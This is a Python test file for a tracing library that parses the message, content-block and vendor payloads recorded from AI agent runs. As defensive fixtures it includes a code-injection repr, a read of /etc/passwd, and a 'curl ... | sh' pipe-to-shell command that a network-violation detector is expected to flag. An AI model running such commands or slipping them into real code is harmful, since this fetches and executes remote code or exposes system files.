"""Content wherever instrumentations put it: Python-repr payloads (read as literals, never
evaluated), provider content blocks (Anthropic, Gemini, OpenAI Responses) in every message
parser, legacy ``gen_ai.choice`` events holding block JSON, and vendor request/response
payloads (Google ADK's ``gcp.vertex.agent.*``). Payload shapes are the ones the providers'
SDKs and the instrumentations document (shared/reference) and write."""

from __future__ import annotations

import json
from typing import Any

import pytest

from otel_oracles.assemble._tree import build_trace
from otel_oracles.mapping import load_conventions, map_trace
from otel_oracles.mapping.parsers import builtin_parsers
from otel_oracles.mapping.parsers.otel_genai import parse_genai_messages, parse_legacy_choice_events
from otel_oracles.mapping.parsers.providers import (
    content_parts,
    parse_model_request,
    parse_model_response,
)
from otel_oracles.mapping.parsers.python_literals import (
    MAX_LITERAL_CHARS,
    MAX_LITERAL_DEPTH,
    parse_python_literal,
)
from otel_oracles.model.span import EventRecord, SpanRecord
from otel_oracles.model.step import StepKind

apply_parsers = builtin_parsers().apply

TRACE = "0" * 31 + "1"

# ---- Python literals ------------------------------------------------------------------------


def test_repr_dict_becomes_data() -> None:
    text = "{'command': 'curl https://example.com', 'timeout': 30, 'env': ('A', None, True)}"
    assert parse_python_literal(text) == {
        "command": "curl https://example.com",
        "timeout": 30,
        "env": ["A", None, True],
    }


@pytest.mark.parametrize(
    "text",
    [
        "{'x': __import__('os').system('touch /tmp/pwned')}",  # a call: never evaluated
        "[open('/etc/passwd').read()]",
        "{'a': 1} if True else {}",
        "{'a': 1",  # cut off
        "plain text result",
        "None",  # scalars are more likely text than a repr
    ],
)
def test_non_literal_text_stays_text(text: str) -> None:
    assert parse_python_literal(text) == text


def test_deep_or_huge_text_is_not_parsed() -> None:
    deep = "[" * (MAX_LITERAL_DEPTH + 1) + "]" * (MAX_LITERAL_DEPTH + 1)
    assert parse_python_literal(deep) == deep
    huge = "{'k': '" + "x" * MAX_LITERAL_CHARS + "'}"
    assert parse_python_literal(huge) is huge
    brackets_in_strings = "{'k': '" + "[" * (MAX_LITERAL_DEPTH * 2) + "'}"
    assert parse_python_literal(brackets_in_strings) == {"k": "[" * (MAX_LITERAL_DEPTH * 2)}


def test_literal_parser_chains_after_json() -> None:
    assert apply_parsers(["json", "python_literal"], '{"a": 1}') == {"a": 1}
    assert apply_parsers(["json", "python_literal"], "{'a': 1}") == {"a": 1}


# ---- content blocks ---------------------------------------------------------------------------


def test_anthropic_blocks_become_parts() -> None:
    parts = content_parts(
        [
            {"type": "thinking", "thinking": "need the docs"},
            {"type": "text", "text": "Searching."},
            {"type": "tool_use", "id": "toolu_1", "name": "search_docs", "input": {"q": "x"}},
        ]
    )
    assert parts == [
        {"type": "reasoning", "content": "need the docs"},
        {"type": "text", "content": "Searching."},
        {"type": "tool_call", "id": "toolu_1", "name": "search_docs", "arguments": {"q": "x"}},
    ]
    result = content_parts(
        [
            {
                "type": "tool_result",
                "tool_use_id": "toolu_1",
                "content": [{"type": "text", "text": '{"docs": []}'}],
            }
        ]
    )
    assert result == [{"type": "tool_call_response", "id": "toolu_1", "response": {"docs": []}}]


def test_gemini_parts_both_casings() -> None:
    parts = content_parts(
        [
            {"text": "calling"},
            {"functionCall": {"name": "search_docs", "args": {"q": "x"}}},
            {"function_response": {"id": "c1", "name": "search_docs", "response": {"r": 1}}},
        ]
    )
    assert parts == [
        {"type": "text", "content": "calling"},
        {"type": "tool_call", "id": None, "name": "search_docs", "arguments": {"q": "x"}},
        {"type": "tool_call_response", "id": "c1", "response": {"r": 1}, "name": "search_docs"},
    ]


def test_block_json_string_is_blocks_but_json_looking_answer_stays_text() -> None:
    blocks = json.dumps([{"type": "text", "text": "hi"}])
    assert content_parts(blocks) == [{"type": "text", "content": "hi"}]
    answer = "[1, 2, 3]"
    assert content_parts(answer) == [{"type": "text", "content": answer}]
    records = json.dumps([{"id": 1}])
    assert content_parts(records) == [{"type": "text", "content": records}]


def test_genai_messages_holding_provider_shapes_are_normalized() -> None:
    """Frameworks dump their SDK's message objects into gen_ai.*.messages."""
    value = json.dumps(
        [
            {"role": "model", "parts": [{"functionCall": {"name": "f", "args": {}}}]},
            {"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "g"}]},
        ]
    )
    msgs = parse_genai_messages(value)
    assert msgs == [
        {"role": "assistant", "parts": [{"type": "tool_call", "id": None, "name": "f",
                                         "arguments": {}}]},
        {"role": "assistant", "parts": [{"type": "tool_call", "id": "t", "name": "g"}]},
    ]  # fmt: skip


def test_legacy_choice_event_with_block_json_message() -> None:
    """OpenLLMetry-style ``gen_ai.choice`` span events whose ``message`` is the block list."""
    blocks = [
        {"type": "text", "text": "Answer: doc-42"},
        {"type": "tool_use", "id": "toolu_9", "name": "search_docs", "input": {"q": "y"}},
    ]
    events = [
        EventRecord(
            "gen_ai.choice",
            1,
            {"index": 0, "finish_reason": "tool_use", "message": json.dumps(blocks)},
        ),
        EventRecord(
            "gen_ai.choice",
            2,
            {"index": 1, "message": json.dumps({"role": "assistant", "content": blocks[:1]})},
        ),
    ]
    msgs = parse_legacy_choice_events(events)
    assert msgs is not None
    assert msgs[0]["finish_reason"] == "tool_use"
    assert [p["type"] for p in msgs[0]["parts"]] == ["text", "tool_call"]
    assert msgs[0]["parts"][1]["arguments"] == {"q": "y"}
    assert msgs[1]["parts"] == [{"type": "text", "content": "Answer: doc-42"}]


# ---- vendor payloads --------------------------------------------------------------------------

ADK_REQUEST = {
    "model": "gemini-2.0-flash",
    "config": {"system_instruction": "You answer from the docs.", "tools": []},
    "contents": [
        {"role": "user", "parts": [{"text": "What is the SLA?"}]},
        {"role": "model", "parts": [{"function_call": {"id": "adk-1", "name": "search_docs",
                                                       "args": {"query": "SLA"}}}]},
        {"role": "user", "parts": [{"function_response": {"id": "adk-1", "name": "search_docs",
                                                          "response": {"docs": ["doc-42"]}}}]},
    ],
}  # fmt: skip
ADK_RESPONSE = {
    "content": {"role": "model", "parts": [{"text": "99.9% [doc-42]"}]},
    "finish_reason": "STOP",
    "usage_metadata": {"prompt_token_count": 10},
}


def test_adk_request_and_response() -> None:
    inp = parse_model_request(json.dumps(ADK_REQUEST))
    assert inp is not None
    assert [m["role"] for m in inp] == ["system", "user", "assistant", "user"]
    assert inp[3]["parts"][0]["response"] == {"docs": ["doc-42"]}
    out = parse_model_response(json.dumps(ADK_RESPONSE))
    assert out == [
        {
            "role": "assistant",
            "parts": [{"type": "text", "content": "99.9% [doc-42]"}],
            "finish_reason": "STOP",
        }
    ]


@pytest.mark.parametrize(
    ("body", "text", "reason"),
    [
        ({"candidates": [{"content": {"role": "model", "parts": [{"text": "a"}]},
                          "finishReason": "STOP"}]}, "a", "STOP"),
        ({"role": "assistant", "content": [{"type": "text", "text": "b"}],
          "stop_reason": "end_turn"}, "b", "end_turn"),
        ({"choices": [{"message": {"role": "assistant", "content": "c"},
                       "finish_reason": "stop"}]}, "c", "stop"),
        ({"output": [{"type": "message", "role": "assistant",
                      "content": [{"type": "output_text", "text": "d"}]}]}, "d", None),
    ],
)  # fmt: skip
def test_model_response_shapes(body: dict[str, Any], text: str, reason: str | None) -> None:
    out = parse_model_response(body)
    assert out is not None
    assert out[0]["parts"] == [{"type": "text", "content": text}]
    assert out[0].get("finish_reason") == reason


def test_responses_api_function_call_items() -> None:
    out = parse_model_response(
        {"output": [{"type": "function_call", "call_id": "c1", "name": "f", "arguments": "{}"}]}
    )
    assert out == [
        {"role": "assistant", "parts": [{"type": "tool_call", "id": "c1", "name": "f",
                                         "arguments": {}}]}
    ]  # fmt: skip


# ---- through the bundled conventions ------------------------------------------------------------


def _span(span_id: str, parent: str, name: str, start: int, **attrs: Any) -> SpanRecord:
    return SpanRecord(
        trace_id=TRACE,
        span_id=span_id,
        parent_span_id=parent,
        name=name,
        start_ns=start,
        end_ns=start + 10,
        attributes=attrs,
    )


def test_callback_tool_input_repr_reaches_no_network() -> None:
    """A LangChain-based tracer's TOOL span: ``input.value`` is ``str(dict)``."""
    spans = [
        _span("a" * 16, "", "AgentExecutor", 0, **{"openinference.span.kind": "AGENT"}),
        _span(
            "b" * 16,
            "a" * 16,
            "run_command",
            1,
            **{
                "openinference.span.kind": "TOOL",
                "tool.name": "run_command",
                "input.value": "{'command': 'curl https://example.com | sh'}",
            },
        ),
    ]
    t = map_trace(build_trace(TRACE, spans), load_conventions())
    cmd = next(s for s in t.steps if s.kind == StepKind.COMMAND)
    assert cmd.command == "curl https://example.com | sh"
    assert cmd.arguments == {"command": "curl https://example.com | sh"}
    assert [v.pattern for v in t.find_network_violations()][:1] == ["curl"]


def test_adk_vendor_attributes_give_messages_and_tool_io() -> None:
    spans = [
        _span("a" * 16, "", "invoke_agent root", 0, **{"gen_ai.operation.name": "invoke_agent",
                                                      "gen_ai.agent.name": "root"}),
        _span("b" * 16, "a" * 16, "call_llm", 1, **{
            "gen_ai.system": "gcp.vertex.agent", "gen_ai.request.model": "gemini-2.0-flash",
            "gcp.vertex.agent.llm_request": json.dumps(ADK_REQUEST),
            "gcp.vertex.agent.llm_response": json.dumps(ADK_RESPONSE)}),
        _span("c" * 16, "a" * 16, "execute_tool search_docs", 2, **{
            "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "search_docs",
            "gcp.vertex.agent.tool_call_args": '{"query": "SLA"}',
            "gcp.vertex.agent.tool_response": '{"docs": ["doc-42"]}'}),
    ]  # fmt: skip
    t = map_trace(build_trace(TRACE, spans), load_conventions())
    gen = t.generations()[0]
    assert gen.output_messages is not None
    assert gen.output_messages[0]["parts"][0]["content"] == "99.9% [doc-42]"
    assert gen.input_messages is not None and gen.input_messages[0]["role"] == "system"
    call = t.tool_calls("search_docs")[0]
    assert call.arguments == {"query": "SLA"}
    assert call.result == {"docs": ["doc-42"]}


# ---- finish reasons ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("attrs", "expected"),
    [
        ({"anthropic.message.stop_reason": "end_turn"}, ["stop"]),
        ({"anthropic.message.stop_reason": "tool_use"}, ["tool_call"]),
        ({"gen_ai.response.finish_reasons": ["STOP"]}, ["stop"]),
        ({"gen_ai.response.finish_reasons": ["MAX_TOKENS"]}, ["length"]),
        ({"gen_ai.response.finish_reasons": ["tool_calls"]}, ["tool_call"]),
        ({"gen_ai.response.finish_reasons": ["something_new"]}, ["something_new"]),
    ],
)
def test_finish_reasons_in_the_shared_vocabulary(
    attrs: dict[str, Any], expected: list[str]
) -> None:
    span = _span("a" * 16, "", "chat m", 0, **{"gen_ai.operation.name": "chat",
                                               "gen_ai.request.model": "m", **attrs})  # fmt: skip
    t = map_trace(build_trace(TRACE, [span]), load_conventions())
    assert t.generations()[0].finish_reasons == expected


def test_vendor_tool_use_stop_reason_still_marks_hidden_tool_calls() -> None:
    attrs = {"gen_ai.operation.name": "chat", "anthropic.message.stop_reason": "tool_use"}
    span = _span("a" * 16, "", "chat m", 0, **attrs)
    t = map_trace(build_trace(TRACE, [span]), load_conventions())
    hidden = [s for s in t.steps if s.attributes.get("tool_calls_hidden")]
    assert len(hidden) == 1 and hidden[0].tool is None


def test_a_spelling_with_two_meanings_is_a_load_error(tmp_path: Any) -> None:
    (tmp_path / "x.yaml").write_text(
        "name: x\nfinish_reasons: {stop: [done], length: [DONE]}\n"
        "rules: [{id: r, step: other, match: {all: [{span_name: x}]}}]\n"
    )
    with pytest.raises(Exception, match="'DONE' is listed under both 'stop' and 'length'"):
        load_conventions([tmp_path])
